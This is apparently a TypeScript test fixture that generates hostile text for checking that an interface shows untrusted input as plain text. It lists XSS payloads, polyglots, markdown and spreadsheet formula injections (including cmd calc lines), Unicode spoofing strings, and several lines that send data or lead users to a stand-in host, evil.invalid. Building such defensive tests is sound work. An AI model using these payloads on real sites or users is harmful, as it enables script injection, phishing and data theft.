/** Where a payload tries to lead a browser. No server listens there. */
const away = "https://evil.invalid"

/** A line that a layout must handle whole. */
export const longLine = "W".repeat(1_000_000)

const html = [
  `<script>alert(1)</script>`,
  `<script src="${away}/x.js"></script>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="${away}/pixel.png?secret=1">`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<object data="data:text/html,<script>alert(1)</script>"></object>`,
  `<embed src="${away}/x.swf">`,
  `<base href="${away}/">`,
  `<meta http-equiv="refresh" content="0;url=${away}">`,
  `<link rel="stylesheet" href="${away}/x.css">`,
  `<style>@import "${away}/x.css"; body { background: url(${away}/b) }</style>`,
  `<form action="${away}"><input name=key autofocus onfocus=alert(1)><button>Sign in</button></form>`,
  `<a href="javascript:alert(1)" onmouseover=alert(1)>click</a>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror=alert(1)></video>`,
  `<body onload=alert(1)>`,
  `<marquee onstart=alert(1)>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `</textarea></title></script><script>alert(1)</script>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<dialog open>Your session has ended. <a href="${away}">Sign in</a></dialog>`,
  `<div style="position:fixed;inset:0;background:white;z-index:9999">gone</div>`
]

const drawings = [
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><image href="${away}/x.png"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe src="${away}"></iframe></foreignObject></svg>`,
  `<svg><animate attributeName=href values=javascript:alert(1) /></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`
]

const markdown = [
  `![pixel](${away}/p.png?q=secret)`,
  `[click](javascript:alert(1))`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[a]: ${away} "onmouseover=alert(1)"`,
  `<${away}/autolink>`,
  "```html\n<script>alert(1)</script>\n```",
  `[![x](${away}/a.png)](vbscript:msgbox(1))`,
  `| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ${away} |`
]

const polyglots = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e`,
  `'"--></style></script><svg/onload=alert(1)>{{7*7}}`,
  `\`\${alert(1)}\` \${{7*7}} <%= 7*7 %> #{7*7} {{constructor.constructor('alert(1)')()}}`,
  `__proto__ constructor.prototype [object Object] undefined NaN null`
]

const letters = [
  `\u202Egnp.exe\u202C \u2066isolated\u2069 \u200Fright`,
  `a\u200B\u200C\u200D\uFEFFb\u2060c\u00ADd`,
  `Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034D`.repeat(
    20
  ),
  `\u0001\u0002\u0007\u0008\u000B\u001B[31mred\u001B[0m`,
  `https://xn--80ak6aa92e.com https://раураl.com`,
  `\u2028\u2029line separators`,
  `🏴‍☠️👩‍👩‍👧‍👦`.repeat(30)
]

const formulas = [
  `=HYPERLINK("${away}?"&A1,"click")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `＝1+1`
]

/** Addresses that must never become a link, an image or a destination of the browser. */
export const badAddresses = [
  `javascript:alert(1)`,
  `JaVaScRiPt:alert(1)`,
  `java\nscript:alert(1)`,
  `\u0001javascript:alert(1)`,
  `data:text/html,<script>alert(1)</script>`,
  `vbscript:msgbox(1)`,
  `file:///etc/passwd`,
  `blob:${away}/1`,
  `//evil.invalid/x`,
  `https://evil.invalid/"onmouseover="alert(1)`,
  `https://user:password@evil.invalid/`,
  `https://evil.invalid/${"a".repeat(1500)}`,
  `https://раураl.com/`,
  `http://127.0.0.1:1/`
]

/** Text that tries to harm its reader: each payload is text and must stay text. */
export const payloads: ReadonlyArray<string> = [
  ...html,
  ...drawings,
  ...markdown,
  ...polyglots,
  ...letters,
  ...formulas
]

const dresses: ReadonlyArray<(payload: string) => string> = [
  (payload) => payload,
  (payload) => `1. **${payload}** leads.\n2. ${payload}`,
  (payload) => `> ${payload}\n\n\`${payload}\``,
  (payload) => `"><'>${payload}<!--`
]

/** As many hostile answers as D1 asks for. */
export const hostileAnswers = 200

/** The text to look for where a hostile answer is shown. */
export const markOf = (n: number): string => `hostile-${n}-answer`

/** The `n`th hostile text: every payload in every wrapping; one of them is a million letters without a blank. */
export const hostileText = (n: number): string => {
  const payload = n === hostileAnswers - 1 ? longLine : (payloads[n % payloads.length] ?? "")
  const dress = dresses[Math.floor(n / payloads.length) % dresses.length] ?? String
  return dress(payload)
}

/** A hostile text that fits a field of the given length. */
export const hostileName = (n: number, most: number): string =>
  Array.from(payloads[n % payloads.length] ?? "")
    .slice(0, most)
    .join("")
    .toWellFormed()
    .trim() || "x"
